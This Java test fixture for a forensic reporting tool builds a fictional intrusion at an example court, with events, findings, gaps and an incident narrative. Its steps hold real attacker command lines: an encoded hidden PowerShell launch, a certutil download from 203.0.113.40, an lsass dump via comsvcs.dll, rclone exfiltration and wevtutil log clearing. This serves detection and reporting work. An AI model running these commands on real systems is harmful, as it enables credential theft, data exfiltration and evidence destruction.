package org.tipstaff.report;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.tipstaff.detect.Finding;
import org.tipstaff.event.ClockReading;
import org.tipstaff.event.Event;
import org.tipstaff.event.Fields;
import org.tipstaff.event.Gap;
import org.tipstaff.event.Provenance;
import org.tipstaff.event.Sha256;
import org.tipstaff.event.Source;
import org.tipstaff.incident.ClockOffset;
import org.tipstaff.incident.Entity;
import org.tipstaff.incident.Incident;
import org.tipstaff.incident.Incident.EntityLink;
import org.tipstaff.incident.Join;
import org.tipstaff.incident.Narrator;
import org.tipstaff.incident.Score;
import org.tipstaff.incident.Sentence;
import org.tipstaff.incident.Step;
import org.tipstaff.sigma.Level;
import org.tipstaff.sigma.Location;
import org.tipstaff.sigma.LogSource;
import org.tipstaff.sigma.Problem;
import org.tipstaff.sigma.RuleHeader;

/**
 * A small case of our own: a clerk opens an attachment, credentials are read, two further machines are reached,
 * documents leave. Sentences are said as they stand in {@link Sentence#message()}.
 */
final class ExampleCase {
    private static final Narrator NARRATOR = new Narrator();

    static final SentenceVoice VOICE = ExampleCase::say;

    final Source clerkLog = source("CLERK07/Microsoft-Windows-Sysmon%4Operational.evtx");
    final Source fileLog = source("FILES01/Security.evtx");
    final Source zip = source("collected/dc.zip");
    final Source dcLog = hashed(zip.member("Security.evtx"));
    final List<Finding> findings = new ArrayList<>();
    final List<Step> steps = new ArrayList<>();

    private static final Instant START = Instant.parse("2025-03-14T15:41:07.250Z");

    private static String say(String message, List<Object> values, Locale locale) {
        if (message.matches("(join|relation|score)\\..*")) {
            return NARRATOR.say(message, values, locale);
        }
        String said = message;
        for (int i = 0; i < values.size(); i++) {
            said = said.replace("{" + i + "}", values.get(i).toString());
        }
        return said;
    }

    static Source source(String path) {
        return hashed(Source.file(path));
    }

    private static Source hashed(Source source) {
        byte[] bytes = source.path().getBytes(StandardCharsets.UTF_8);
        source.hashed(Sha256.of(bytes), 1_052_672);
        return source;
    }

    static UUID id(String name) {
        return UUID.nameUUIDFromBytes(name.getBytes(StandardCharsets.UTF_8));
    }

    static RuleHeader rule(String title, Level level, List<String> tactics, List<String> techniques) {
        return new RuleHeader(
                id(title).toString(),
                "",
                title,
                level,
                "test",
                "Detects what its title says, in events of our own making.",
                "registry of an example court",
                List.of(),
                tactics,
                techniques,
                List.of("https://example.org/why-this-matters"),
                List.of("Administrators at work"),
                List.of(),
                Map.of(),
                new Location("court/" + title.toLowerCase(Locale.ROOT).replace(' ', '_') + ".yml", 1, 1));
    }

    static Event event(Source source, long record, @Nullable Instant time, String host, String user) {
        return new Event(
                new Provenance(source, record, 4096 + record * 800),
                "windows",
                "Microsoft-Windows-Sysmon/Operational",
                "Microsoft-Windows-Sysmon",
                1,
                host,
                user,
                time == null ? List.of() : List.of(new ClockReading("TimeCreated", time)),
                Fields.none(),
                null);
    }

    static Finding finding(RuleHeader rule, Event event, Map<String, String> matched) {
        return new Finding(
                id(rule.id() + event.provenance()),
                event.time(),
                rule,
                List.of(event),
                false,
                new TreeMap<>(matched),
                List.of());
    }

    private void step(
            long seconds,
            Source source,
            String host,
            String user,
            String tactic,
            String technique,
            String what,
            String commandLine) {
        Instant time = START.plusSeconds(seconds);
        RuleHeader rule =
                rule("Example " + tactic + " " + technique, level(tactic), List.of(tactic), List.of(technique));
        Event event = event(source, 100 + steps.size(), time, host, user);
        Finding finding =
                finding(rule, event, Map.of("CommandLine", commandLine, "Image", "C:\\Windows\\System32\\cmd.exe"));
        findings.add(finding);
        Instant corrected = host.startsWith("FILES") ? time.plusSeconds(3_603) : time;
        steps.add(new Step(
                corrected,
                new ClockReading("TimeCreated", time),
                tactic,
                List.of(technique),
                host,
                user,
                new Sentence(what, List.of(host, user), List.of(event.provenance())),
                List.of(finding)));
    }

    private static Level level(String tactic) {
        return switch (tactic) {
            case "credential-access", "exfiltration" -> Level.CRITICAL;
            case "lateral-movement", "execution" -> Level.HIGH;
            case "discovery" -> Level.LOW;
            default -> Level.MEDIUM;
        };
    }

    CaseReport build() {
        String clerk = "EXAMPLECOURT\\registry.clerk1";
        String admin = "EXAMPLECOURT\\svc.backup";
        step(
                0,
                clerkLog,
                "CLERK07",
                clerk,
                "initial-access",
                "T1566.001",
                "On {0}, the mail program of {1} opened the attachment “Convocation-0314.docm”.",
                "OUTLOOK.EXE Convocation-0314.docm");
        step(
                12,
                clerkLog,
                "CLERK07",
                clerk,
                "execution",
                "T1059.001",
                "The document started PowerShell on {0} with an encoded command.",
                "powershell.exe -nop -w hidden -enc SQBFAFgA");
        step(
                15,
                clerkLog,
                "CLERK07",
                clerk,
                "command-and-control",
                "T1105",
                "PowerShell fetched a program from 203.0.113.40.",
                "certutil -urlcache -f http://203.0.113.40/u.exe u.exe");
        for (int i = 0; i < 6; i++) {
            step(
                    60 + i * 4L,
                    clerkLog,
                    "CLERK07",
                    clerk,
                    "discovery",
                    "T1033",
                    "{1} asked {0} who is signed in.",
                    "whoami /all");
        }
        step(
                190,
                clerkLog,
                "CLERK07",
                clerk,
                "persistence",
                "T1053.005",
                "A scheduled task named “Updater” was made on {0}.",
                "schtasks /create /tn Updater");
        step(
                7_600,
                clerkLog,
                "CLERK07",
                clerk,
                "credential-access",
                "T1003.001",
                "The memory of the sign-in process (lsass.exe) was read on {0}.",
                "rundll32 comsvcs.dll MiniDump 612 a.dmp full");
        step(
                7_900,
                dcLog,
                "DC01",
                admin,
                "lateral-movement",
                "T1021.002",
                "{1} reached {0} from CLERK07 over an administrative share.",
                "\\\\DC01\\ADMIN$\\x.exe");
        step(
                150_000,
                fileLog,
                "FILES01",
                admin,
                "lateral-movement",
                "T1021.006",
                "{1} reached {0} by remote PowerShell.",
                "wsmprovhost.exe -Embedding");
        step(
                150_400,
                fileLog,
                "FILES01",
                admin,
                "collection",
                "T1560.001",
                "Documents of the share “Chambers” were packed into C:\\PerfLogs\\a.7z on {0}.",
                "7z a -p*** C:\\PerfLogs\\a.7z D:\\Chambers");
        step(
                152_000,
                fileLog,
                "FILES01",
                admin,
                "exfiltration",
                "T1567.002",
                "The archive was sent to a file service in the internet.",
                "rclone copy a.7z remote:");
        step(
                156_600,
                dcLog,
                "DC01",
                admin,
                "stealth",
                "T1070.001",
                "The security log of {0} was cleared.",
                "wevtutil cl Security");

        Incident main = incident(
                "The credentials of the domain were read on CLERK07 and documents left FILES01.",
                Level.CRITICAL,
                steps);
        RuleHeader office = rule("Office program wrote a script", Level.MEDIUM, List.of("execution"), List.of());
        List<Finding> others = new ArrayList<>();
        for (int i = 0; i < 70; i++) {
            others.add(finding(
                    office,
                    event(clerkLog, 5_000 + i, START.plusSeconds(90_000 + i * 60L), "CLERK07", clerk),
                    Map.of("TargetFilename", "C:\\Users\\registry.clerk1\\AppData\\Local\\Temp\\order-" + i + ".vbs")));
        }
        Event secondEvent = event(clerkLog, 9_001, START.plusSeconds(400_000), "CLERK11", "");
        Finding second = finding(
                rule("Log of a clerk was cleared", Level.HIGH, List.of("defense-evasion"), List.of("T1070.001")),
                secondEvent,
                Map.of("EventID", "1102"));
        findings.addAll(others);
        findings.add(second);
        Incident small = new Incident(
                "6a1e7a53-7a21-5c55-8a40-0d9c1f3c3f10",
                new Sentence("The log of CLERK11 was cleared.", List.of(), List.of(secondEvent.provenance())),
                Level.HIGH,
                new Score(31, List.of(new Score.Part("severity", 25.25), new Score.Part("rarity", 6))),
                second.time(),
                second.time(),
                List.of("CLERK11"),
                List.of(),
                List.of("defense-evasion"),
                List.of("T1070.001"),
                List.of(second),
                List.of(),
                List.of(new Sentence(
                        "Someone cleared the security log of CLERK11.", List.of(), List.of(secondEvent.provenance()))),
                List.of(),
                List.of(),
                List.of());
        return new CaseReport(
                new RunFacts(
                        "0.1.0",
                        Sha256.of(new byte[0]).hex(),
                        new TreeMap<>(Map.of("--rules", "built-in", "--level", "informational"))),
                sources(),
                new EventFacts(
                        12_838,
                        4,
                        12_830,
                        2,
                        START.minusSeconds(86_400),
                        START.plusSeconds(500_000),
                        new TreeMap<>(Map.of("TimeCreated", 9_100L, "UtcTime", 3_728L)),
                        List.of(
                                new EventFacts.HostFacts("CLERK07", 9_000, START, START.plusSeconds(300_000)),
                                new EventFacts.HostFacts("CLERK11", 830, START, START.plusSeconds(500_000)),
                                new EventFacts.HostFacts("DC01", 2_000, START, START.plusSeconds(200_000)),
                                new EventFacts.HostFacts("FILES01", 1_000, START, START.plusSeconds(200_000)))),
                rules(),
                List.of(
                        new ChannelFacts("Microsoft-Windows-Sysmon/Operational", 9_830, 2_101, 12),
                        new ChannelFacts("Security", 2_900, 340, 4),
                        new ChannelFacts("Court-CaseManagement/Audit", 100, 0, 0)),
                List.of(main, small),
                findings,
                gaps());
    }

    private Incident incident(String title, Level severity, List<Step> steps) {
        List<Provenance> first = steps.get(0).what().evidence();
        List<Sentence> account = new ArrayList<>();
        for (Step step : steps) {
            account.add(step.what());
        }
        account.add(new Sentence(
                "How the account {0} came into the intruder’s hands is not shown.",
                List.of("svc.backup"), List.of(first.get(0), new Provenance(dcLog, 77, Provenance.NO_OFFSET))));
        Entity clerk = new Entity(Entity.Kind.HOST, "clerk07");
        Entity dc = new Entity(Entity.Kind.HOST, "dc01");
        Entity files = new Entity(Entity.Kind.HOST, "files01");
        Entity user = new Entity(Entity.Kind.USER, "examplecourt\\registry.clerk1");
        Entity backup = new Entity(Entity.Kind.USER, "examplecourt\\svc.backup");
        Entity address = new Entity(Entity.Kind.ADDRESS, "203.0.113.40");
        Entity word = new Entity(Entity.Kind.PROCESS, "clerk07|winword.exe");
        Entity shell = new Entity(Entity.Kind.PROCESS, "clerk07|powershell.exe");
        Entity archive = new Entity(Entity.Kind.FILE, "files01|c:\\perflogs\\a.7z");
        List<EntityLink> links = new ArrayList<>(List.of(
                new EntityLink(word, "started", shell, 3),
                new EntityLink(shell, "connected-to", address, 2),
                new EntityLink(user, "acted-on", clerk, 5),
                new EntityLink(word, "ran-on", clerk, 1),
                new EntityLink(shell, "ran-on", clerk, 4),
                new EntityLink(backup, "acted-on", dc, 2),
                new EntityLink(backup, "acted-on", files, 2),
                new EntityLink(clerk, "connected-to", dc, 2),
                new EntityLink(files, "wrote", archive, 1),
                new EntityLink(new Entity(Entity.Kind.TASK, "clerk07|updater"), "started", shell, 1),
                new EntityLink(files, "connected-to", new Entity(Entity.Kind.DOMAIN, "files.example.net"), 1)));
        for (int i = 0; i < 4; i++) {
            links.add(new EntityLink(
                    files,
                    "wrote",
                    new Entity(Entity.Kind.FILE, "files01|d:\\chambers\\case-" + i + "\\draft-judgment.docx"),
                    1));
        }
        return new Incident(
                "0f6a9b1e-5a0d-5d8b-93f4-6a6b5d2f4c11",
                new Sentence(title, List.of(), first),
                severity,
                new Score(
                        187,
                        List.of(
                                new Score.Part("severity", 96),
                                new Score.Part("rarity", 41.5),
                                new Score.Part("spread", 22),
                                new Score.Part("chain", 27.5))),
                START,
                START.plusSeconds(156_600),
                List.of("CLERK07", "DC01", "FILES01"),
                List.of("EXAMPLECOURT\\registry.clerk1", "EXAMPLECOURT\\svc.backup"),
                List.of(
                        "initial-access",
                        "execution",
                        "persistence",
                        "stealth",
                        "credential-access",
                        "discovery",
                        "lateral-movement",
                        "collection",
                        "command-and-control",
                        "exfiltration"),
                List.of("T1003.001", "T1021.002"),
                List.copyOf(findings),
                steps,
                account,
                List.of(
                        new Join(
                                shell,
                                "same-process",
                                List.of(findings.get(1).id(), findings.get(2).id()),
                                3),
                        new Join(
                                backup,
                                "same-user-other-host",
                                List.of(findings.get(11).id(), findings.get(12).id()),
                                142_100)),
                links,
                List.of(new ClockOffset(
                        "FILES01", "TimeCreated", "UtcTime", Duration.ofMillis(3_603_120), 800, 799, true)));
    }

    private List<SourceFacts> sources() {
        List<SourceFacts> facts = new ArrayList<>();
        for (Source source : List.of(clerkLog, fileLog, zip, dcLog)) {
            facts.add(new SourceFacts(
                    source.path(), source.sha256(), source.sizeBytes(), source == zip ? "zip" : "EVTX", 3_200, 1));
        }
        facts.add(new SourceFacts("notes/unreadable.bin", null, -1, "", 0, 1));
        return facts;
    }

    private List<Gap> gaps() {
        return List.of(
                Gap.at(
                        clerkLog,
                        Gap.Kind.CHUNK,
                        69_632,
                        65_536,
                        "chunk 1: the checksum of its records is 0x1f00aa01, computed 0x8834dd10"),
                Gap.whole(
                        Source.file("notes/unreadable.bin"),
                        Gap.Kind.UNKNOWN_FORMAT,
                        "tried EVTX, Windows XML, JSON, zip, gzip, zstd, tar: none fits"),
                new Gap(
                        dcLog,
                        Gap.Kind.LOG_CLEARED,
                        4_096,
                        -1,
                        1L,
                        "event 1102: the log was cleared by EXAMPLECOURT\\svc.backup"),
                new Gap(
                        fileLog,
                        Gap.Kind.RECORDS_MISSING,
                        9_000,
                        -1,
                        512L,
                        "record 511 is followed by 640: 128 numbers are missing"));
    }

    private static RuleFacts rules() {
        return new RuleFacts(
                3_780,
                0,
                0,
                2_441,
                1_312,
                2,
                List.of(
                        new Problem(
                                Problem.Severity.ERROR,
                                new Location("rules/lsass.yml", 14, 21),
                                "unknown modifier 'contians' on field CommandLine (did you mean 'contains'?)",
                                "        CommandLine|contians: 'sekurlsa'"),
                        new Problem(
                                Problem.Severity.ERROR,
                                new Location("rules/old.yml", 30, 14),
                                "pipes in conditions are not Sigma v2",
                                "    condition: a | count() > 3")),
                25,
                List.of(new Problem(
                        Problem.Severity.ERROR,
                        new Location("rules/ph.yml", 20, 9),
                        "placeholder %Administrators% has no values; give them with --placeholders FILE",
                        "        User|expand: '%Administrators%'")),
                new TreeMap<>(Map.of("deprecated", 120L, "unsupported", 44L)),
                List.of(
                        new RuleFacts.LogSourceFacts(
                                new LogSource("windows", "process_creation", ""), 1_415, true, 6_000),
                        new RuleFacts.LogSourceFacts(new LogSource("windows", "", "dns-server"), 3, true, 0),
                        new RuleFacts.LogSourceFacts(new LogSource("linux", "", "auditd"), 55, false, 0),
                        new RuleFacts.LogSourceFacts(new LogSource("", "webserver", ""), 86, false, 0)));
    }
}
